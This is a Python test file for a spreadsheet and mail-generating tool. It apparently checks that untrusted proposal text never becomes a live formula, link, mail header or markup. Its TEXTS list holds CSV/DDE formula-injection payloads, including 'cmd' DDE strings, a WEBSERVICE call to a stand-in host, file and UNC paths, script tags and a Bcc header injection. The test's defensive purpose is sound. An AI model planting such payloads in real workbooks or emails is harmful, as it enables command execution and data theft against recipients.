"""Nothing from outside becomes a formula, a link, a mail header or markup, in whatever goes out (R10 of the threats).

One partner fills every text cell with what spreadsheets, mail programs and browsers would run. All of it must come
out as the text it is, and LibreOffice, asked for formulas and links, must know of none.
"""

from __future__ import annotations

import email
import email.policy
import re
import tempfile
import zipfile
from collections.abc import Iterator, Mapping
from datetime import date
from itertools import cycle
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook
from support import office, package, templat
from xlsxwriter import Workbook

from kemitraan_xl.book import splice
from kemitraan_xl.book.cells import put
from kemitraan_xl.book.master import build_master
from kemitraan_xl.book.summary import write_summary
from kemitraan_xl.consolidate import Recap, consolidate
from kemitraan_xl.issue import issue_all
from kemitraan_xl.master import Row
from kemitraan_xl.remind import remind
from kemitraan_xl.renew import new_master
from kemitraan_xl.reply import write_replies
from validation.contract import tables

MARK = "SUNTIK"  # in every text below, so that no output can hide it
#: What spreadsheets run, what mail programs take for a header, what browsers take for markup.
TEXTS = (
    f"={MARK}+1",
    f'=HYPERLINK("http://{MARK}.example","buka")',
    f'=WEBSERVICE("http://{MARK}.example/"&A1)',
    f"=cmd|'/c {MARK}'!A0",
    f"+{MARK}(1)",
    f"+1+cmd|'/c {MARK}'!A0",
    f"-{MARK}",
    f"-2+3+cmd|'/c {MARK}'!A0",
    f"@SUM({MARK})",
    f"@{MARK}",
    f"{{={MARK}}}",
    f"＝{MARK}+1",  # full width
    f"＋{MARK}",
    f"_x003D_{MARK}()",
    f'DDE("cmd";"/c {MARK}";"x")',
    f"http://{MARK}.example/?q=1",
    f"https://{MARK}.example",
    f"mailto:{MARK}",
    f"file:///etc/{MARK}",
    f"\\\\{MARK}\\berkas\\x",
    f"internal:'Ref'!{MARK}",
    f"external:{MARK}.xlsx#Ref!A1",
    f"<script>{MARK}</script>",
    f"<r><t>{MARK}</t></r>",
    f"]]>{MARK}&amp;<f>1</f>",
    f"{MARK}\nBcc: semua",
    f"'={MARK}",
    f"{{{{{MARK}}}}}",
    f"%0A{MARK}",
)
HEADERS = {
    "Subject", "Date", "Message-ID", "X-Unsent", "To", "MIME-Version", "Content-Type", "Content-Transfer-Encoding",
}  # fmt: skip
NAMES = (TEXTS[0], TEXTS[1], TEXTS[22], TEXTS[25])
CODES = {"M-001": "diterima", "M-002": "dikembalikan"}


def _nasty(returned: bool) -> Mapping[str, Any]:
    """A proposal whose free texts are TEXTS, one after the other; `returned` with a cost that is none."""
    texts: Iterator[str] = cycle(TEXTS)
    free = {
        (table.name, column.name)
        for table in tables().values()
        for column in table.columns_in("usulan")
        if column.kind == "teks" and not column.computed and column.name not in ("nama_lembaga", "surel", "telepon")
    }
    values = {
        name: [{key: next(texts) if (name, key) in free else cell for key, cell in row.items()} for row in rows]
        for name, rows in templat.WHOLE.items()
    }
    plan = values["rencana_kerja"][0]
    cost = 5_000_000 / len(TEXTS)
    values["rencana_kerja"] = [
        plan | {"nama_program": text, "kegiatan": TEXTS[-number], "biaya": text if returned else cost}
        for number, text in enumerate(TEXTS)
    ]
    values["matriks_risiko"][0]["skala_dampak"] = 1  # a low risk asks for no measures
    return values


@pytest.fixture(scope="module")
def outputs(tmp_path_factory: pytest.TempPathFactory) -> tuple[Recap, Path]:
    """The recap of such files, and the folder with everything that is made of them."""
    folder = tmp_path_factory.mktemp("keluar")
    sources = tmp_path_factory.mktemp("masuk")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("KEMITRAAN_XL_CACHE", str(tmp_path_factory.mktemp("cache")))
        for code, verdict in CODES.items():
            templat.template.build_template(
                "usulan",
                sources / f"{code}.xlsx",
                mitra=f"={MARK} Yayasan {code}",
                kode=code,
                periode="2026",
                prefill=_nasty(verdict == "dikembalikan"),
                per_tanggal=templat.TODAY,
            )
        recap = consolidate([sources], templat.TODAY)
        write_summary(recap, folder / "rekap.xlsx")
        write_replies(recap, folder)
        new_master(folder / "induk.xlsx", None, [sources], templat.TODAY)
        issue_all("kemajuan", folder / "induk.xlsx", "2026-S1", folder / "templat", templat.TODAY)
        running: list[Row] = [
            {
                "kode_mitra": f"M-{number}",
                "nama_lembaga": text,
                "tanggal_mulai": date(2025, 1, 1),
                "tanggal_selesai": date(2027, 1, 1),
                "tahap": "Pelaksanaan Program dan Kegiatan",
            }
            for number, text in enumerate(NAMES)
        ]
        register: list[Row] = [
            {"kode": row["kode_mitra"], "nama_lembaga": row["nama_lembaga"], "surel": row["nama_lembaga"]}
            for row in running
        ]
        build_master(folder / "berjalan.xlsx", {"mitra": register, "kerja_sama": running}, today=templat.TODAY)
        remind(folder / "berjalan.xlsx", folder / "ingatkan", templat.TODAY)
    return recap, folder


def _books(folder: Path) -> list[Path]:
    return sorted(folder.rglob("*.xlsx"))


def test_the_outputs_are_those_meant(outputs: tuple[Recap, Path]) -> None:
    recap, folder = outputs
    assert [entry.verdict for entry in recap.returns] == list(CODES.values())
    names = {path.relative_to(folder).parts[0] for path in folder.rglob("*") if path.is_file()}
    assert {"rekap.xlsx", "induk.xlsx", "berjalan.xlsx", "templat", "ingatkan"} < names
    assert len(_books(folder)) == 5  # three named here, a template, the returned file
    assert len(list(folder.rglob("*.eml"))) == 1 + len(NAMES)


def _texts(book: Path) -> set[str]:
    sheets = CalamineWorkbook.from_path(str(book))
    return {
        cell
        for name in sheets.sheet_names
        for row in sheets.get_sheet_by_name(name).to_python()
        for cell in row
        if isinstance(cell, str) and MARK in cell
    }


def test_every_text_comes_out_as_it_is(outputs: tuple[Recap, Path]) -> None:
    for name in ("rekap.xlsx", "induk.xlsx"):
        assert set(TEXTS) <= {text.removesuffix(" ") for text in _texts(outputs[1] / name)}


def _live(book: Path) -> list[str]:
    """Formulas and link targets of a workbook that say anything of the texts."""
    with zipfile.ZipFile(book) as parts:
        names = parts.namelist()
        targets = [parts.read(name).decode() for name in names if name.endswith(".rels")]
    found = [formula.text for formula in package.read(book).formulas() if MARK in formula.text]
    found += [target for rels in targets for target in re.findall(r'Target="([^"]*)"', rels) if MARK in target]
    return found + [name for name in names if re.search("externalLink|connections|queryTable|activeX", name)]


def test_no_workbook_holds_it_as_formula_or_link(outputs: tuple[Recap, Path]) -> None:
    assert {path.name: _live(path) for path in _books(outputs[1])} == {path.name: [] for path in _books(outputs[1])}


@pytest.mark.libreoffice
def test_libreoffice_finds_no_formula_and_no_link_of_it(outputs: tuple[Recap, Path], tmp_path: Path) -> None:
    _, folder = outputs
    for number, path in enumerate(_books(folder)):
        seen = office.recalculate(path, tmp_path / str(number))
        assert not _live(seen), path.name
    rekap = package.read(office.recalculate(folder / "rekap.xlsx", tmp_path / "rekap"))
    assert not [formula for formula in rekap.formulas() if formula.holder == "cell"]


def test_no_mail_gets_a_header_or_markup_of_it(outputs: tuple[Recap, Path]) -> None:
    for path in outputs[1].rglob("*.eml"):
        mail = email.message_from_bytes(path.read_bytes(), policy=email.policy.default)
        assert not mail.defects
        assert set(mail.keys()) <= HEADERS
        assert "\n" not in str(mail["Subject"])
        assert all(part.get_content_type() != "text/html" for part in mail.walk())


@given(
    drawn=st.lists(
        st.tuples(
            st.sampled_from("=+-@\t＝｛'\""), st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S")))
        ),
        min_size=1,
        max_size=40,
    )
)
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_text_stays_text_in_the_summary_and_in_a_template(drawn: list[tuple[str, str]]) -> None:
    """What XlsxWriter is given and what a reader gets back, through both ways of writing rows."""
    texts = [f"{first}{rest}x"[:300] for first, rest in drawn]
    with tempfile.TemporaryDirectory() as folder:
        target = Path(folder, "a.xlsx")
        book = Workbook(target, {"constant_memory": True, "strings_to_formulas": True, "strings_to_urls": True})
        sheet, look = book.add_worksheet("Satu"), book.add_format()
        for row, text in enumerate(texts):
            put(sheet, row, 0, text, look)
        splice.write_rows(sheet, len(texts), [splice.Cells(texts, look)], [15.0] * len(texts))
        book.close()
        rows = CalamineWorkbook.from_path(str(target)).get_sheet_by_index(0).to_python(skip_empty_area=False)
        assert [text for (text,) in rows] == texts * 2
        assert not list(package.read(target).formulas())
        with zipfile.ZipFile(target) as parts:
            assert not [name for name in parts.namelist() if name.startswith("xl/worksheets/_rels")]
